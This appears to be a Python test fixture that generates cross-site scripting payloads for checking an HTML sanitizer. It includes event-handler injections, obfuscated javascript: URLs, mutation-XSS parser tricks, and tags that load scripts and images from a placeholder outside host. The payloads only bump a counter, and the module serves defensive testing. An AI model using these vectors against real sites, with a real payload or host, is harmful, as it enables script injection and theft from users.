"""HTML that tries to run, to ask another host, or to break out of where it stands.

Made from a few ways to call and many ways to be called, so that a new way of either
kind multiplies. Whatever runs counts itself in `window.ran`.
"""

from itertools import product

CALL = "(top.ran=(top.ran||0)+1)"
AWAY = "//elsewhere.invalid/"

HANDLERS = (
    "onerror onload onfocus onmouseover onanimationstart ontoggle onpointerenter "
    "onbeforeinput onscroll onwheel oncopy onpageshow onhashchange onbegin "
    "onauxclick onselectionchange ontransitionend oncanplay onloadstart onclose "
    "onpointerrawupdate"
).split()
HOLDERS = (
    '<img src=x {0}="{1}">',
    '<svg {0}="{1}"><circle r=9></circle></svg>',
    '<body {0}="{1}">',
    '<input autofocus {0}="{1}">',
    '<details open {0}="{1}"><summary>s</summary></details>',
    '<video src=x autoplay {0}="{1}"><source {0}="{1}"></video>',
    '<p tabindex=0 {0}="{1}" style="animation:x 1s">words</p>',
    '<marquee {0}="{1}">words</marquee>',
)
SCRIPTS = (
    "<script>{0}</script>",
    "<script>/*<p>*/{0}//</p></script>",
    "<SCRIPT/x>{0}</SCRIPT>",
    "<svg><script>{0}</script></svg>",
    "<svg><script href='data:text/javascript,{0}'/></svg>",
    "<math><mtext><script>{0}</script></mtext></math>",
    "<script src='data:text/javascript,{0}'></script>",
    "<script type=module>{0}</script>",
    "<noscript><p title='</noscript><script>{0}</script>'></noscript>",
    "<title><p title='</title><script>{0}</script>'></title>",
    "<textarea><p title='</textarea><script>{0}</script>'></textarea>",
    "<style><p title='</style><script>{0}</script>'></style>",
    "<xmp><p title='</xmp><script>{0}</script>'></xmp>",
    "<!--><script>{0}</script>-->",
    "<!--[if gte mso 9]><script>{0}</script><![endif]-->",
    "<![CDATA[<script>{0}</script>]]>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src='javascript:{0}'></iframe>",
    "<iframe src='data:text/html,<script>{0}</script>'></iframe>",
    "<object data='javascript:{0}'></object>",
    "<embed src='javascript:{0}'>",
    "<template><script>{0}</script></template>",
    "<div><template shadowrootmode=open><script>{0}</script></template></div>",
    "<math><mglyph><style><!--</style><img title='--><img src=x onerror={0}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
    "<svg></p><style><a id='</style><img src=x onerror={0}>'>",
    "<p id='</p><img src=x onerror={0}>'>words</p>",
    "<table><tr><td><script>{0}</script></td></tr></table>",
    "<select><script>{0}</script></select>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:{0}'></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{0}</script></svg>#x'></svg>",
    "<svg><foreignObject><iframe src='javascript:{0}'></iframe></foreignObject></svg>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href='data:text/css,*{{x:expression({0})}}'>",
    "<base href='javascript:{0}//'>",
    "<p style='x:expression({0})'>words</p>",
    "<p style='behavior:url(#x)' onclick='{0}'>words</p>",
    "<div data-pm-slice='0 0 []'><img src=x onerror='{0}'></div>",
    "<figure data-row='0' onclick='{0}'><img src=x onerror='{0}'></figure>",
    "<p data-block='<script>{0}</script>'>words</p>",
)
ADDRESSES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "\tjava\nscript:{0}",
    "&#106;avascript:{0}",
    "&#x6A;avascript&colon;{0}",
    "javascript&#58;{0}",
    "java&Tab;script:{0}",
    "\x01javascript:{0}",
    "data:text/html,<script>{0}</script>",
    "vbscript:{0}",
    "blob:javascript:{0}",
    "view-source:javascript:{0}",
    "https://javascript:{0}@paper.example",
    "//paper.example/{0}",
)
LINKS = (
    '<a href="{0}">words</a>',
    '<a href="{0}" target=x download ping="http:' + AWAY + '">words</a>',
    '<svg><a xlink:href="{0}"><text y=9>words</text></a></svg>',
    '<form action="{0}"><button>words</button></form>',
    '<math href="{0}">words</math>',
)
REMOTE = (
    "<img src='http:{0}a.png'>",
    "<img srcset='http:{0}b.png 1x'>",
    "<picture><source srcset='http:{0}c.png'><img></picture>",
    "<p style='background:url(http:{0}d.png)'>words</p>",
    "<style>@import 'http:{0}e.css'; p {{background: url(http:{0}f.png)}}</style>",
    "<link rel=preload as=image href='http:{0}g.png'>",
    "<link rel=dns-prefetch href='{0}'>",
    "<video poster='http:{0}h.png'></video>",
    "<audio src='http:{0}i.mp3' autoplay></audio>",
    "<iframe src='http:{0}j.html'></iframe>",
    "<object data='http:{0}k.swf'></object>",
    "<embed src='http:{0}l.swf'>",
    "<input type=image src='http:{0}m.png'>",
    "<table background='http:{0}n.png'><tr><td>words</table>",
    "<svg><image href='http:{0}o.png'/><use href='http:{0}p.svg#x'/></svg>",
    "<meta http-equiv=refresh content='0;url=http:{0}'>",
    "<base href='http:{0}'><img src='q.png'>",
    "<script src='http:{0}r.js'></script>",
)

# What stands in a page without hiding or ending what comes behind it.
_SIDE_BY_SIDE = [
    *(holder.format(handler, CALL) for handler, holder in product(HANDLERS, HOLDERS)),
    *(link.format(each.format(CALL)) for link, each in product(LINKS, ADDRESSES)),
]
_ALONE = [
    *(each.format(CALL) for each in SCRIPTS),
    *(each.format(AWAY) for each in REMOTE),
]
SNIPPETS = [*_SIDE_BY_SIDE, *_ALONE]


def raw_pages():
    """Whole pages with all the snippets, as if nothing had cleaned them.

    Without the one that leads away at once: that is no script, and no policy of a
    page forbids it.
    """
    bodies = [
        "".join(_SIDE_BY_SIDE[start : start + 40])
        for start in range(0, len(_SIDE_BY_SIDE), 40)
    ]
    bodies += [each for each in _ALONE if "http-equiv=refresh" not in each]
    return [f"<!doctype html><title>t</title><body>{each}" for each in bodies]
